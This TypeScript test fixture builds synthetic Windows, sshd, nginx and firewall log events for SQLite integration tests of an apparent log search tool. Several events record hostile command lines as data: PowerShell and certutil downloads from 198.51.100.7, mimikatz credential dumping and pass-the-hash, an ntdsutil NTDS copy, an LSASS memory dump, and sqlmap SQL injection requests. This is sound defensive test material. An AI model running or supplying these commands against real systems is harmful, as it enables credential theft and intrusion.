/**
 * Hand-written events for the SQLite integration tests: Windows process creation and logons, sshd and
 * nginx access logs, a firewall with flat-key JSON, and a few events outside the default time range.
 * Pure data (no database import), so the library build stays free of storage code.
 */

/** 2024-05-01T00:00:00Z; events sit at T0 + minutes. */
export const T0 = Date.UTC(2024, 4, 1);
/** "Now" for the tests: the default range [NOW - 24h, NOW) is exactly [T0, T0 + 24h). */
export const NOW = T0 + 24 * 3_600_000;

export interface FixtureEvent {
  id: number;
  ts: number;
  event_code: string | null;
  event_provider: string | null;
  event_dataset: string | null;
  host_name: string | null;
  user_name: string | null;
  source_ip: string | null;
  destination_ip: string | null;
  process_command_line: string | null;
  message: string | null;
  /** The normalized ECS core (flat keys), as the store keeps it; null where a test leaves it out. */
  core: string | null;
  raw: string;
}

export const SCHEMA_SQL = `
CREATE TABLE events (
  id INTEGER PRIMARY KEY,
  ts INTEGER NOT NULL,
  event_code TEXT, event_provider TEXT, event_dataset TEXT,
  host_name TEXT, user_name TEXT, source_ip TEXT, destination_ip TEXT,
  process_command_line TEXT, message TEXT,
  core TEXT, raw TEXT NOT NULL
);
CREATE INDEX events_ts ON events (ts);
CREATE VIRTUAL TABLE events_fts USING fts5(message);
`;

const at = (minutes: number): number => T0 + minutes * 60_000;
const events: FixtureEvent[] = [];

function add(id: number, minutes: number, fields: Partial<Omit<FixtureEvent, 'id' | 'ts' | 'raw' | 'core'>>, raw: object, core?: object): void {
  events.push({
    id, ts: at(minutes), event_code: null, event_provider: null, event_dataset: null, host_name: null,
    user_name: null, source_ip: null, destination_ip: null, process_command_line: null, message: null,
    ...fields, core: core === undefined ? null : JSON.stringify(core), raw: JSON.stringify(raw),
  });
}

// Windows Security 4688. Events 1-3 carry the agent version as a flat dotted key, the rest nested.
function proc(id: number, minutes: number, host: string, user: string, image: string, commandLine: string): void {
  const agent = id <= 3 ? { 'agent.version': '8.12.0' } : { agent: { version: '7.17.0' } };
  add(id, minutes, {
    event_code: '4688', event_provider: 'Microsoft-Windows-Security-Auditing', event_dataset: 'windows.security',
    host_name: host, user_name: user, process_command_line: commandLine,
    message: `A new process has been created. New Process Name: ${image}`,
  }, {
    ...agent,
    winlog: { channel: 'Security', event_id: 4688, event_data: { CommandLine: commandLine, NewProcessName: image, SubjectUserName: user } },
    process: { pid: 1000 + id },
  });
}

proc(1, 10, 'WS-01', 'alice', 'C:\\Windows\\System32\\cmd.exe', '"C:\\Windows\\System32\\cmd.exe" /c whoami');
proc(2, 20, 'WS-01', 'alice', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgA');
proc(3, 30, 'WS-02', 'bob', 'C:\\Users\\bob\\Downloads\\mimikatz.exe', 'C:\\Users\\bob\\Downloads\\mimikatz.exe "privilege::debug" "sekurlsa::logonpasswords"');
proc(4, 35, 'WS-02', 'SYSTEM', 'C:\\Windows\\Temp\\MimiKatz.exe', 'C:\\Windows\\Temp\\MimiKatz.exe coffee exit');
proc(5, 40, 'DC-01', 'Administrator', 'C:\\Windows\\System32\\ntdsutil.exe', 'ntdsutil "ac i ntds" "ifm" "create full c:\\temp" q q');
proc(6, 50, 'WS-03', 'SYSTEM', 'C:\\Windows\\System32\\svchost.exe', 'C:\\Windows\\system32\\svchost.exe -k netsvcs');
proc(7, 55, 'WS-03', 'system', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full');
proc(8, 60, 'WS-04', 'carol', 'C:\\Windows\\System32\\net.exe', 'net user /domain');
proc(9, 65, 'WS-04', 'carol', 'C:\\Windows\\System32\\net.exe', 'net group "Domain Admins" /domain');
proc(10, 70, 'WS-01', 'alice', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
  "powershell.exe -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/Invoke-Mimikatz.ps1')");
proc(11, 80, 'WS-02', 'bob', 'C:\\Windows\\System32\\whoami.exe', 'whoami /priv');
proc(12, 90, 'WS-02', 'bob', 'C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.7/a.exe a.exe');

// Windows logons; LogonType is sometimes a JSON number and sometimes a string, as real exports mix them.
function logon(id: number, minutes: number, code: '4624' | '4625', host: string, user: string, logonType: number | string, ip: string | null): void {
  add(id, minutes, {
    event_code: code, event_provider: 'Microsoft-Windows-Security-Auditing', event_dataset: 'windows.security',
    host_name: host, user_name: user, source_ip: ip,
    message: code === '4624' ? 'An account was successfully logged on.' : 'An account failed to log on.',
  }, { winlog: { channel: 'Security', event_id: Number(code), event_data: { LogonType: logonType, TargetUserName: user, IpAddress: ip ?? '-' } } });
}

logon(13, 100, '4624', 'DC-01', 'alice', 3, '10.0.0.21');
logon(14, 110, '4624', 'DC-01', 'bob', '10', '10.0.0.22');
logon(15, 120, '4625', 'DC-01', 'Administrator', 3, '203.0.113.50');
logon(16, 121, '4625', 'DC-01', 'Administrator', 3, '203.0.113.50');
logon(17, 122, '4625', 'DC-01', 'administrator', '3', '203.0.113.50');
logon(18, 130, '4624', 'WS-01', 'alice', 2, null);

function sshd(id: number, minutes: number, host: string, user: string | null, ip: string | null, message: string): void {
  add(id, minutes, {
    event_provider: 'sshd', event_dataset: 'system.auth', host_name: host, user_name: user, source_ip: ip, message,
  }, { process: { name: 'sshd', pid: 700 + id }, log: { syslog: { priority: 38 } } },
  // Only the normalized core says how the attempt ended; the original is a bare syslog line.
  { 'process.name': 'sshd', 'event.outcome': /^Failed/.test(message) ? 'failure' : /^Accepted/.test(message) ? 'success' : 'unknown' });
}

sshd(19, 200, 'web-01', 'root', '203.0.113.5', 'Failed password for root from 203.0.113.5 port 52231 ssh2');
sshd(20, 201, 'web-01', 'root', '203.0.113.5', 'Failed password for root from 203.0.113.5 port 52235 ssh2');
sshd(21, 202, 'web-01', 'root', '203.0.113.5', 'Failed password for root from 203.0.113.5 port 52240 ssh2');
sshd(22, 203, 'web-02', 'admin', '198.51.100.7', 'Failed password for invalid user admin from 198.51.100.7 port 40022 ssh2');
sshd(23, 204, 'web-02', null, '198.51.100.7', 'Connection closed by 198.51.100.7 port 40200 [preauth]');
sshd(24, 210, 'bastion', 'deploy', '10.0.0.5', 'Accepted publickey for deploy from 10.0.0.5 port 50022 ssh2: ED25519 SHA256:Zm9vYmFy');
sshd(25, 220, 'bastion', 'alice', '10.0.0.21', 'Accepted password for alice from 10.0.0.21 port 50100 ssh2');
sshd(26, 230, 'web-01', 'root', '203.0.113.5', 'Failed password for root from 203.0.113.5 port 52300 ssh2');
sshd(27, 240, 'bastion', 'deploy', null, 'pam_unix(sshd:session): session opened for user deploy by (uid=0)');
sshd(28, 250, 'web-02', null, null, 'Server listening on 0.0.0.0 port 22.');

// nginx access logs; body bytes are usually numbers, once a numeric string and once "n/a".
function web(id: number, minutes: number, host: string, ip: string, method: string, url: string, status: number, bytes: number | string, agent = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)'): void {
  add(id, minutes, {
    event_provider: 'nginx', event_dataset: 'nginx.access', host_name: host, source_ip: ip,
    message: `${ip} - - "${method} ${url} HTTP/1.1" ${status} ${bytes} "${agent}"`,
  }, { http: { request: { method }, response: { status_code: status, body: { bytes } } }, url: { original: url }, user_agent: { original: agent } });
}

const sqlmap = 'sqlmap/1.7.2#stable (https://sqlmap.org)';
web(29, 300, 'web-01', '10.0.0.30', 'GET', '/index.html', 200, 5120);
web(30, 301, 'web-01', '10.0.0.30', 'GET', '/static/app.js', 200, 48213);
web(31, 302, 'web-01', '198.51.100.7', 'GET', '/wp-login.php', 404, 162, sqlmap);
web(32, 303, 'web-01', '198.51.100.7', 'GET', "/index.php?id=1' OR 1=1 --", 500, 0, sqlmap);
web(33, 304, 'web-01', '198.51.100.7', 'GET', '/index.php?id=1%27%20UNION%20SELECT%20NULL', 500, 0, sqlmap);
web(34, 305, 'web-02', '10.0.0.31', 'GET', '/wp_admin/', 403, 1024);
web(35, 306, 'web-02', '10.0.0.31', 'GET', '/wpXadmin/', 404, 162);
web(36, 307, 'web-02', '10.0.0.32', 'POST', '/api/login', 200, 2048);
web(37, 308, 'web-02', '10.0.0.32', 'POST', '/api/login', 401, '1500');
web(38, 309, 'web-02', '10.0.0.33', 'GET', '/health', 200, 'n/a');
web(39, 310, 'web-01', '10.0.0.30', 'GET', '/images/logo.png', 304, 0);
web(40, 311, 'web-01', '10.0.0.30', 'GET', '/download/report.pdf', 200, 1048576);
web(41, 312, 'web-02', '203.0.113.5', 'GET', '/.env', 404, 162);
web(42, 313, 'web-02', '203.0.113.5', 'GET', '/.git/config', 404, 162);
web(43, 314, 'web-01', '10.0.0.30', 'GET', '/search?q=100%', 200, 3000);
web(44, 315, 'web-01', '10.0.0.30', 'GET', '/a?b=c', 200, 10);

// Outside the default range: an hour before it, and exactly at its (exclusive) end.
proc(45, -60, 'WS-02', 'bob', 'C:\\Users\\bob\\Downloads\\mimikatz.exe', 'C:\\Users\\bob\\Downloads\\mimikatz.exe "sekurlsa::pth"');
sshd(46, 24 * 60, 'web-01', 'root', '203.0.113.5', 'Failed password for root from 203.0.113.5 port 53000 ssh2');

// A firewall whose JSON uses flat ECS keys, and one nesting them: both must be found by the same field.
add(48, 400, { event_dataset: 'firewall', host_name: 'fw-01', message: 'deny tcp 203.0.113.9 -> 10.0.0.10:445' },
  { 'event.action': 'deny', 'destination.port': '445', 'source.ip': '203.0.113.9' });
add(49, 401, { event_dataset: 'firewall', host_name: 'fw-01', message: 'deny tcp 203.0.113.9 -> 10.0.0.11:3389' },
  { event: { action: 'deny' }, destination: { port: 3389 }, source: { ip: '203.0.113.9' } });

export const EVENTS: readonly FixtureEvent[] = events;

export const COLUMNS = Object.keys(events[0]!) as (keyof FixtureEvent)[];
